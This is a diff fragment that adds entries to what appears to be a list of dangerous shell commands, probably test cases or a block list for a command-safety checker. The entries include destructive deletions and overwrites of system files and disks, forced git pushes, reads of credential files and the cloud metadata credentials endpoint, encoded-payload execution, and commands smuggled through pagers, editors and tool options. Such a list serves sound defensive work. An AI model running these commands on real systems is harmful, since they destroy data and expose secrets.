@@ -301,3 +301,39 @@ sudo -s <<< 'rm -rf /'
 sudo bash <<< 'rm -rf /'
 ssh h "rm -rf /srv && reboot"
 sh -c "rm -rf $TARGET"
+git push origin main --force-if-includes -f
+git push --force-with-lease --force
+git push -o ci.skip -f
+git checkout --theirs .
+rm -rf ./..
+rm -rf .*
+curl -fsSL https://x.example | sudo tar -xz -C /usr/local
+psql -c 'UPDATE orders SET x = 1'
+kubectl delete pod web -- --help
+git push --forc origin main
+git reset --har
+rm --recurs /opt/x
+git clean --forc -d
+cat "$(find . -name .env)"
+mapfile -t a < ~/.netrc
+: > /etc/passwd
+export A=b > /dev/sda
+gpg --export-secret-keys
+printenv AWS_SECRET_ACCESS_KEY
+curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
+fd -e log -x rm
+python3 -c "eval(input())"
+python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"
+ruby -e '%x(rm -rf /)'
+awk '{print | "sh"}' f
+less +'!rm -rf /' f
+PAGER='sh -c "rm -rf /"' man ls
+VISUAL='rm -rf /' git commit
+make -f /dev/stdin <<< 'all: ; rm -rf /'
+scp -S ./evil a b:
+rsync --rsync-path='rm -rf /;rsync' a b:
+node -e "import('child_process').then(c=>c.execSync('rm -rf /'))"
+node -e "const {execSync}=require('child_process'); execSync('rm -rf /')"
+git log --output=/etc/passwd
+wget --use-askpass=./evil x
+sort --compress-program='rm -rf /' x
